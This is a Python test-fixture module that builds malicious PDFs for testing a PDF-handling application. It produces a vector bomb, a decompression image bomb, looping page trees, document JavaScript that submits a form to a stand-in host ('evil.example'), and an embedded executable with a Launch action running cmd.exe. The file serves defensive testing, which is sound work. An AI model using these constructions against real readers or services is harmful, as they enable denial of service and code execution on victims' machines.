"""Hostile files made on the spot: every one is small on disk and says what it attacks.

Built with raw PDF syntax (so the structure is exactly the attack) or with PyMuPDF."""

from __future__ import annotations

import io
import zipfile
import zlib

import pymupdf


def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (object n is ``objects[n - 1]``), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra, xref))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    body = zlib.compress(data, 9) if compress else data
    flate = b"/Filter /FlateDecode " if compress else b""
    return b"<< /Length %d %s%s>>\nstream\n" % (len(body), flate, extra) + body + b"\nendstream"


def one_page(content: bytes, resources: bytes = b"<< >>", size: tuple[float, float] = (612, 792),
             catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] | None = None) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %g %g] /Contents 4 0 R /Resources %s %s>>"
        % (size[0], size[1], resources, page_extra),
        stream(content),
    ]
    return raw_pdf(objects + (more or []))


def simple_plan(text: str = "Ground floor") -> bytes:
    return one_page(b"BT /F1 24 Tf 72 700 Td (%s) Tj ET 50 50 500 600 re S" % text.encode(),
                    resources=b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>")


def vector_bomb(paths: int = 200_000) -> bytes:
    """One page with hundreds of thousands of tiny stroked paths (compresses to ~100 KB)."""
    lines = b"".join(b"%d %d m %d %d l S\n" % (i % 600, (i // 600) % 780, i % 600 + 3, (i // 600) % 780 + 2)
                     for i in range(paths))
    return one_page(b"0.1 w\n" + lines)


def image_bomb(side: int = 10_000) -> bytes:
    """A side x side 8-bit grey image (100 MB when decoded) deflated from zeros to ~100 KB."""
    compressor = zlib.compressobj(9)
    row_block = b"\x00" * (side * 100)
    chunks = [compressor.compress(row_block) for _ in range(side // 100)] + [compressor.flush()]
    data = b"".join(chunks)
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
             b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(data))
             + data + b"\nendstream")
    return one_page(b"q 500 0 0 500 50 150 cm /Im1 Do Q", resources=b"<< /XObject << /Im1 5 0 R >> >>",
                    more=[image])


def page_tree_loop_self() -> bytes:
    """The page tree's root lists itself among its kids."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ])


def page_tree_loop_pair() -> bytes:
    """Two intermediate page-tree nodes that are each other's kid."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>",
    ])


def javascript_everywhere() -> bytes:
    """Document JavaScript on open, in the name tree, on a page's open action and in a link."""
    js = b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.example/');) >>"
    return one_page(
        b"BT /F1 24 Tf 72 700 Td (Hall) Tj ET",
        resources=b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
        catalog_extra=b"/OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> ",
        page_extra=b"/AA << /O 5 0 R >> /Annots [6 0 R]",
        more=[js, b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A 5 0 R >>"],
    )


def embedded_file_and_launch() -> bytes:
    """An attached executable and a Launch action that would run it."""
    payload = b"MZ\x90\x00" + b"\x00" * 200
    return one_page(
        b"0 0 m 100 100 l S",
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >> /OpenAction 7 0 R ",
        more=[
            stream(payload, extra=b"/Type /EmbeddedFile "),
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
            b"<< /S /Launch /F (setup.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        ],
    )


def encrypted(user_password: str | None) -> bytes:
    document = pymupdf.open(stream=simple_plan(), filetype="pdf")
    options = {"encryption": pymupdf.PDF_ENCRYPT_AES_256, "owner_pw": "owner-secret",
               "permissions": int(pymupdf.PDF_PERM_ACCESSIBILITY)}
    if user_password:
        options["user_pw"] = user_password
    data = document.tobytes(**options)
    document.close()
    return data


def many_pages(count: int) -> bytes:
    document = pymupdf.open()
    for _ in range(count):
        document.new_page(width=200, height=200)
    data = document.tobytes()
    document.close()
    return data


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def png_bytes() -> bytes:
    pixmap = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 10, 10), False)
    return pixmap.tobytes("png")
